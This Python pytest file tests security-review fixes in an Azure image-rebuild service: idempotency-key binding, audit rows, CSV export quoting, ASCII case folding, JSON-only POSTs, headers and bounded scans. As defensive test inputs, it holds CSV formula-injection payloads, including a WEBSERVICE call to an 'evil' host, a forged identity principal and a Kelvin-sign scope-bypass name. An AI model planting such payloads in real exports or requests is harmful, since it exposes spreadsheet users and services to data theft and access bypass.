"""Issue 22, "API and CLI": what a security review reproduced in-process, each held by a test that
failed on the code before the fix — keys bound to their caller and request, disabled templates,
audit rows written with the change, conflicts that never give up silently, ids for names that repeat,
ASCII-only case folding, bounded work per request, and the smaller headers and checks."""

from __future__ import annotations

import csv
import dataclasses
import io

import pytest

from rebuilder.domain.builds import BuildState
from rebuilder.domain.errors import StaleWrite
from rebuilder.domain.runs import Policy
from rebuilder.services.records import CONFLICT_ATTEMPTS, Caller
from rebuilder.services.requests import promote
from tests.http_world import ADMIN, OBJECT_ID, READ, REQUEST, UBUNTU, WEU, HttpWorld, principal, template_id
from tests.unit.test_http_routes import gated_release, problem

BO = "2b7c9d1e-0f3a-4b5c-8d6e-7f8091a2b3c4"


@pytest.fixture
def world() -> HttpWorld:
    return HttpWorld()


def rebuild(
    world: HttpWorld, key: str, *, reason: str = "", oid: str = OBJECT_ID, name: str = "ana"
) -> object:
    body = {"template": "ubuntu-golden", **({"reason": reason} if reason else {})}
    return world.call(
        "request_rebuild",
        method="POST",
        body=body,
        headers={
            "Idempotency-Key": key,
            "x-ms-client-principal": principal(REQUEST, READ, name=name, oid=oid),
        },
    )


def finish_open_build(world: HttpWorld) -> None:
    world.finish("ubuntu-golden", exact="22.04.202411190")
    world.reconcile()
    world.reconcile()


# -- 2. Idempotency-Key: bound to its caller and its request, for 24 h ---------------------------------
def test_a_key_sent_by_another_caller_is_refused_and_writes_nothing(world: HttpWorld) -> None:
    world.watch()
    first = rebuild(world, "chg-4711", reason="CVE-2026-1")
    assert first.status == 202 and first.json()["created"]  # type: ignore[attr-defined]
    finish_open_build(world)
    world.clock.advance(hours=20)
    writes = world.ledger.writes
    stolen = rebuild(world, "chg-4711", reason="emergency", oid=BO, name="bo@contoso.com")
    body = problem(stolen, 422)  # type: ignore[arg-type]
    assert "sent by another caller" in str(body["detail"])
    assert world.ledger.writes == writes
    # the same caller, another request under the same key: refused too, saying why
    other = rebuild(world, "chg-4711", reason="another reason")
    assert "with another request" in str(problem(other, 422)["detail"])  # type: ignore[arg-type]
    same = rebuild(world, "chg-4711", reason="CVE-2026-1")
    assert same.json()["replayed"] is True  # type: ignore[attr-defined]


def test_a_key_expires_after_24_hours_and_then_asks_for_a_new_build(world: HttpWorld) -> None:
    world.watch()
    first = rebuild(world, "chg-1").json()  # type: ignore[attr-defined]
    finish_open_build(world)
    world.clock.advance(hours=24, minutes=1)
    again = rebuild(world, "chg-1").json()  # type: ignore[attr-defined]
    assert again["created"] is True and again["replayed"] is False
    assert again["build"]["id"] != first["build"]["id"]
    replay = rebuild(world, "chg-1").json()  # type: ignore[attr-defined]
    assert replay["replayed"] is True and replay["build"]["id"] == again["build"]["id"]
    # and the expired key is free for another caller too, once it has expired again
    world.clock.advance(hours=25)
    theirs = rebuild(world, "chg-1", oid=BO, name="bo").json()  # type: ignore[attr-defined]
    assert theirs["created"] is True or theirs["joined"] is True


# -- 3. A disabled template is refused, not started -------------------------------------------------
def test_a_disabled_template_is_refused_until_an_admin_enables_it(world: HttpWorld) -> None:
    world.watch()
    stored = world.ledger.get_template_state(template_id("ubuntu-golden"))
    assert stored is not None
    disabled = dataclasses.replace(stored.record, disabled=True, disabled_reason="3 failed builds")
    world.ledger.save_template_state(disabled, etag=stored.etag)
    writes = world.ledger.writes
    refused = rebuild(world, "k-disabled")
    body = problem(refused, 409)  # type: ignore[arg-type]
    assert body["title"] == "Template disabled" and "enable" in str(body["detail"])
    assert world.ledger.writes == writes and world.imagebuilder.runs_started == {}
    world.call("enable_template", method="POST", route={"name": "ubuntu-golden"}, roles=(ADMIN,))
    assert rebuild(world, "k-disabled").status == 202  # type: ignore[attr-defined]


# -- 5. Every state-changing call leaves one audit row, written with the change -----------------------
def test_a_promotion_is_audited_with_object_id_and_correlation_id_in_its_own_transaction(
    world: HttpWorld,
) -> None:
    name, _ = gated_release(world)
    answer = world.call("promote_template", method="POST", route={"name": name}, roles=(ADMIN, READ))
    assert answer.json()["build"]["approved_by_id"] == OBJECT_ID
    [action] = world.ledger.list_actions(template_id(name)).items
    assert (action.by, action.by_id, action.correlation_id) == ("ana@contoso.com", OBJECT_ID, "corr-test-1")
    assert answer.json()["build"]["id"] in action.changed


def test_an_abandoned_rollback_finished_by_another_admin_names_that_admin(world: HttpWorld) -> None:
    name, _ = gated_release(world)
    world.call("promote_template", method="POST", route={"name": name}, roles=(ADMIN,))
    world.reconcile()
    world.clock.advance(days=1)
    world.marketplace.publish(WEU, UBUNTU, "22.04.202502110")
    world.watch()
    world.finish(name, exact="22.04.202502110")
    world.reconcile()
    world.reconcile()
    world.call("promote_template", method="POST", route={"name": name}, roles=(ADMIN,))
    world.reconcile()
    world.gallery.update_looks = 1  # the demotion stays Updating past its caller's answer
    pending = world.call(
        "rollback_template", method="POST", route={"name": name}, body={"reason": "boot loop"}, roles=(ADMIN,)
    )
    assert pending.status == 202
    world.clock.advance(minutes=10)  # the caller's lease ran out: the rollback is abandoned
    finished = world.call(
        "rollback_template",
        method="POST",
        route={"name": name},
        body={"reason": "finishing it"},
        headers={"x-ms-client-principal": principal(ADMIN, name="bo@contoso.com", oid=BO)},
    )
    assert finished.status == 200, finished.body
    [rolled] = [a for a in world.ledger.list_actions(template_id(name)).items if a.action == "rolled-back"]
    assert (rolled.by, rolled.by_id) == ("bo@contoso.com", BO)
    assert "boot loop" in rolled.why and "finished by bo@contoso.com" in rolled.why


# -- 6. An optimistic write that keeps losing says so ---------------------------------------------------
class EndlessRace:
    """The ledger, but every save of a build loses its race, as under a writer that never stops."""

    def __init__(self, ledger: object) -> None:
        self._ledger = ledger
        self.tries = 0

    def __getattr__(self, name: str) -> object:
        return getattr(self._ledger, name)

    def save_build(self, *args: object, **kwargs: object) -> str:
        self.tries += 1
        raise StaleWrite("somebody else moved first")


def test_a_promotion_that_keeps_losing_races_raises_instead_of_answering_unapproved(world: HttpWorld) -> None:
    name, _ = gated_release(world)
    racing = EndlessRace(world.ledger)
    ports = dataclasses.replace(world.services.detection(), ledger=racing)  # type: ignore[arg-type]
    with pytest.raises(StaleWrite, match=f"under {CONFLICT_ATTEMPTS} attempts"):
        promote(ports, name, Policy(), now=world.clock.now(), caller=Caller("cli", "ana"))
    assert racing.tries == CONFLICT_ATTEMPTS
    [build] = world.ledger.list_builds(template_id(name)).items
    assert build.state is BuildState.CANDIDATE and not build.approved_by
    refused = world.call("promote_template", method="POST", route={"name": name}, roles=(ADMIN,))
    assert refused.status == 200  # without the race, it goes through


# -- 4. CSV: every field quoted, a formula leader neutralised wherever a locale may split ---------------
@pytest.mark.parametrize(
    ("note", "shown"),
    [
        ('x;=WEBSERVICE("http://evil")', 'x;\'=WEBSERVICE("http://evil")'),
        ("a,+1", "a,'+1"),
        ("tab\t@SUM(A1)", "tab\t'@SUM(A1)"),
        ("wide\uff1b\uff1dcmd", "wide\uff1b'\uff1dcmd"),
        ("=1+1", "'=1+1"),
        ("plain words - no formula", "plain words - no formula"),
    ],
)
def test_a_formula_after_any_separator_is_neutralised_and_every_field_quoted(note: str, shown: str) -> None:
    from devstack.fakes.ledger import InMemoryLedger
    from rebuilder.entrypoints.export import render
    from tests.records import build

    ledger = InMemoryLedger()
    made = build()
    made = dataclasses.replace(made, provenance=dataclasses.replace(made.provenance, note=note))
    ledger.claim_build(made, why="seeded", by="test")
    text = "".join(render(ledger, [made], "csv"))
    lines = [line for line in text.split("\r\n") if line]
    assert len(lines) == 2 and all(line.startswith('"') and line.endswith('"') for line in lines)
    [row] = list(csv.DictReader(io.StringIO(text)))
    assert row["note"] == shown
    for separator in (";", ",", "\t", "|", "\uff1b"):  # a spreadsheet splitting naively, in any locale
        pieces = [p.lstrip(' "') for line in lines for p in line.split(separator)]
        assert not [p for p in pieces if p.startswith(LEADERS)], separator


LEADERS = ("=", "+", "@", "\uff1d", "\uff0b", "\uff20")


# -- 8. Ids compared as ARM does: ASCII case only -----------------------------------------------------
def test_a_resource_group_that_only_unicode_lowers_into_the_scope_is_out_of_it() -> None:
    """ARM compares names case-insensitively in ASCII only: rg-\u212a (the Kelvin sign) is not rg-k,
    though str.lower() makes it so. Before, the scope check let its template be rebuilt."""
    from rebuilder.domain.casing import fold
    from tests.http_world import RG, SUB

    world = HttpWorld(REBUILDER_SCOPES=f"/subscriptions/{SUB}/resourceGroups/rg-k")
    template = world.imagebuilder.get_template(template_id("ubuntu-golden"))
    kelvin = template.id.replace(f"/resourceGroups/{RG}/", "/resourceGroups/rg-\u212a/")
    world.imagebuilder.add_template(dataclasses.replace(template, id=kelvin, resource_group="rg-\u212a"))
    assert "rg-\u212a".lower() == "rg-k" and fold("rg-\u212a") != "rg-k" and fold("RG-K") == "rg-k"
    refused = world.call("request_rebuild", method="POST", body={"template": kelvin}, roles=(REQUEST,))
    assert "configured scopes" in str(problem(refused, 404)["detail"])
    assert world.imagebuilder.runs_started == {}


# -- 7. The same name in two subscriptions: ?subscription= on every per-template route ------------------
def test_a_name_in_two_subscriptions_is_told_apart_by_subscription(world: HttpWorld) -> None:
    from rebuilder.services.requests import enable
    from tests.http_world import SUB

    other_sub = "99999999-8888-7777-6666-555555555555"
    world = HttpWorld(
        REBUILDER_SCOPES=f"/subscriptions/{SUB}/resourceGroups/rg-images,/subscriptions/{other_sub}/resourceGroups/rg-images"
    )
    template = world.imagebuilder.get_template(template_id("ubuntu-golden"))
    twin_id = template.id.replace(SUB, other_sub)
    world.imagebuilder.add_template(dataclasses.replace(template, id=twin_id, subscription_id=other_sub))
    world.watch()
    for stored in (world.ledger.get_template_state(template.id), world.ledger.get_template_state(twin_id)):
        assert stored is not None
        world.ledger.save_template_state(
            dataclasses.replace(stored.record, disabled=True, consecutive_failures=3), etag=stored.etag
        )
    ambiguous = world.call("enable_template", method="POST", route={"name": "ubuntu-golden"}, roles=(ADMIN,))
    assert "?subscription=" in str(problem(ambiguous, 400)["detail"])
    for route in ("get_template", "promote_template", "rollback_template"):
        method = "GET" if route == "get_template" else "POST"
        body = {"reason": "x"} if route == "rollback_template" else None
        answer = world.call(
            route, method=method, route={"name": "ubuntu-golden"}, body=body, roles=(ADMIN, READ)
        )
        assert "2 templates are named" in str(problem(answer, 400)["detail"]), route
    enabled = world.call(
        "enable_template",
        method="POST",
        route={"name": "ubuntu-golden"},
        params={"subscription": other_sub},
        roles=(ADMIN,),
    )
    assert enabled.status == 200 and enabled.json()["template"]["id"] == twin_id
    first = world.ledger.get_template_state(template.id)
    assert first is not None and first.record.disabled  # the other one is untouched
    shown = world.call("get_template", route={"name": "ubuntu-golden"}, params={"subscription": SUB})
    assert shown.json()["id"] == template.id
    bad = world.call("get_template", route={"name": "ubuntu-golden"}, params={"subscription": "not-a-guid"})
    assert "GUID" in str(problem(bad, 400)["detail"])
    # the CLI takes the id, as the use cases do
    state, was = enable(
        world.services.detection(), template.id, now=world.clock.now(), caller=Caller("cli", "ana")
    )
    assert was and state.template_id == template.id


# -- 10. The smaller items ---------------------------------------------------------------------------
@pytest.mark.parametrize("content_type", [None, "text/plain", "application/x-www-form-urlencoded"])
def test_a_post_must_be_json_even_when_empty(world: HttpWorld, content_type: str | None) -> None:
    """A cross-site form post (text/plain, no CORS preflight) never reaches a handler."""
    from rebuilder.entrypoints.http.messages import ApiRequest
    from rebuilder.entrypoints.http.routes import serve

    world.watch()
    headers = {"x-ms-client-principal": principal(ADMIN, READ, REQUEST)}
    if content_type is not None:
        headers["content-type"] = content_type
    writes = world.ledger.writes
    for route in ("request_rebuild", "enable_template", "promote_template", "rollback_template"):
        bare = ApiRequest(
            "POST", "https://x/api/x", {"name": "ubuntu-golden"}, {}, headers, b"", "corr-test-1"
        )
        sent = serve(route, bare, lambda: world.services)
        assert "application/json" in str(problem(sent, 415)["detail"]), route
    assert world.ledger.writes == writes


def test_a_principal_from_another_identity_provider_is_unauthorized(world: HttpWorld) -> None:
    import base64
    import json

    document = json.loads(base64.b64decode(principal(ADMIN, READ)))
    document["auth_typ"] = "google"
    forged = base64.b64encode(json.dumps(document).encode()).decode()
    answer = world.call("list_templates", headers={"x-ms-client-principal": forged})
    assert "only Microsoft Entra ID" in str(problem(answer, 401)["detail"])


def test_json_answers_forbid_everything_and_insist_on_https(world: HttpWorld) -> None:
    for answer in (world.call("list_templates"), world.call("get_rebuild", route={"build_id": "nope"})):
        headers = answer.all_headers()
        assert headers["Content-Security-Policy"].startswith("default-src 'none'")
        assert headers["Strict-Transport-Security"].startswith("max-age=31536000")


def test_the_report_allows_only_its_own_style_block_by_hash(world: HttpWorld) -> None:
    import base64
    import hashlib
    import re

    world.watch()
    report = world.call("get_report")
    csp = report.all_headers()["Content-Security-Policy"]
    assert "unsafe-inline" not in csp
    [style] = re.findall(r"<style>(.*?)</style>", report.body.decode(), flags=re.S)
    digest = base64.b64encode(hashlib.sha256(style.encode()).digest()).decode()
    assert f"style-src 'sha256-{digest}'" in csp
    assert "style=" not in report.body.decode()  # no style attribute: a hash never covers one


def test_access_lines_name_the_callers_object_id_refusals_too(
    world: HttpWorld, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level("INFO", logger="rebuilder.http")
    world.call("list_templates")
    world.call("enable_template", method="POST", route={"name": "ubuntu-golden"}, roles=(READ,))  # 403
    world.call("list_templates", auth=False)  # 401: nobody to name
    lines = [r.getMessage() for r in caplog.records if r.name == "rebuilder.http"]
    assert any("answered 200" in line and f"caller {OBJECT_ID}" in line for line in lines)
    assert any("refused 403" in line and f"caller {OBJECT_ID}" in line for line in lines)
    assert any("refused 401" in line and "caller -" in line for line in lines)


def test_admin_answers_show_a_caller_without_ledger_read_only_the_summary(world: HttpWorld) -> None:
    name, _ = gated_release(world)
    answer = world.call("promote_template", method="POST", route={"name": name}, roles=(ADMIN,))
    assert answer.status == 200
    shown = answer.json()["build"]
    assert "provenance" not in shown and "approved_by" not in shown and shown["state"] == "Candidate"
    full = world.call("get_rebuild", route={"build_id": shown["id"]}, roles=(ADMIN,))
    problem(full, 403)


# -- 9. Bounded work per request ------------------------------------------------------------------------
def test_a_sparse_history_filter_reads_a_bounded_number_of_builds_per_request(
    world: HttpWorld, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Before, GET /api/builds?state=Failed read every build (5,000 and more) to answer an empty page."""
    from datetime import timedelta

    from rebuilder.entrypoints.http.handlers import SCAN_PER_REQUEST
    from tests.records import build

    world.watch()
    start = world.clock.now()
    for i in range(1_200):
        made = build(
            "ubuntu-golden",
            key=f"k{i}",
            at=start + timedelta(minutes=i),
            template_id=template_id("ubuntu-golden"),
        )
        world.ledger.claim_build(made, why="seeded", by="test")
    reads = []
    real = world.ledger.get_build
    monkeypatch.setattr(world.ledger, "get_build", lambda build_id: reads.append(build_id) or real(build_id))
    params = {"state": "Failed"}
    pages = 0
    while True:
        reads.clear()
        page = world.call("list_builds", params=params)
        assert page.status == 200 and page.json()["builds"] == []
        assert len(reads) <= SCAN_PER_REQUEST + 100  # one index chunk past the cap at most
        pages += 1
        if page.json()["next"] is None:
            break
        params = {"state": "Failed", "continuation": page.json()["next"].split("continuation=")[1]}
    assert pages == 3  # 1,200 builds, 500 a request


def test_the_templates_view_reads_the_region_rows_of_recent_builds_only(
    world: HttpWorld, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Before, the view (and the report) read the region rows of every build ever made."""
    from datetime import timedelta

    from rebuilder.domain.builds import RegionStatus
    from rebuilder.services.estate import RECENT_BUILDS
    from tests.records import build

    world.watch()
    start = world.clock.now() - timedelta(days=400)
    for i in range(300):
        made = build(
            "ubuntu-golden",
            key=f"k{i}",
            at=start + timedelta(days=i),
            template_id=template_id("ubuntu-golden"),
        )
        claimed = world.ledger.claim_build(made, why="seeded", by="test")
        rows = [RegionStatus(made.id, r, True, "Completed", 100) for r in ("westeurope", "northeurope")]
        world.ledger.save_build(made, etag=claimed.build.etag, regions=rows)
    read_rows = []
    real = world.ledger.list_template_regions

    def counted(template_id: str, **kwargs: object) -> object:
        page = real(template_id, **kwargs)  # type: ignore[arg-type]
        read_rows.extend(page.items)
        return page

    monkeypatch.setattr(world.ledger, "list_template_regions", counted)
    assert world.call("list_templates").status == 200
    ours = [r for r in read_rows if r.build_id.split("-")[1] == read_rows[0].build_id.split("-")[1]]
    assert len(ours) <= 4 * (RECENT_BUILDS + 1)  # the recent builds' rows: one page, sized for them
    assert len(ours) < 600 / 2  # not the 600 rows of its whole history
